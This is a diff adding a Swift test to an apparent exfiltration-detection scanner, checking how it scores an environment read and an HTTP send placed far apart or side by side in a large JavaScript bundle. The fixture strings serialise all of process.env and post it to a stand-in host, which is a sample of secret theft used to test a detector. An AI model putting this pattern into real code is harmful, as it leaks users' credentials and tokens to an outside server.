@@ -565,3 +565,24 @@ extension ExfiltrationBehaviourTests {
     #expect(try findings("exfil-flow-credentials", Example(callback, language: .javascript)).map(\.line) == [3, 7])
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  /// A large bundle whose environment read (a logging library's options) and HTTP send share
+  /// the name `body` 300 KiB apart: name-based taint joins them, but in a bundle that is two
+  /// modules, not a flow. Near each other, the same statements are a chain.
+  @Test("A read and a send far apart in a large bundle are reported without a chain")
+  func distantFlowInBundle() throws {
+    let read = "let body = JSON.stringify(process.env);\n"
+    let send = "axios.post('https://api.example-stats.io/v1', body);\n"
+    let filler = String(repeating: "function pad(n) { return n + 1; }\n", count: (300 << 10) / 35)
+    let far = try findings("exfil-flow-environment", Example(read + filler + send, language: .javascript))
+    let distant = try #require(far.first)
+    #expect(far.count == 1)
+    #expect(distant.chain == nil)
+    #expect(distant.confidence == .medium)
+    #expect(distant.message.contains("far apart"))
+    let near = try findings("exfil-flow-environment", Example(filler + read + send, language: .javascript))
+    #expect(near.first?.chain == .exfiltration, "the same file size with the read next to the send")
+    #expect(near.first?.confidence == .high)
+  }
+}
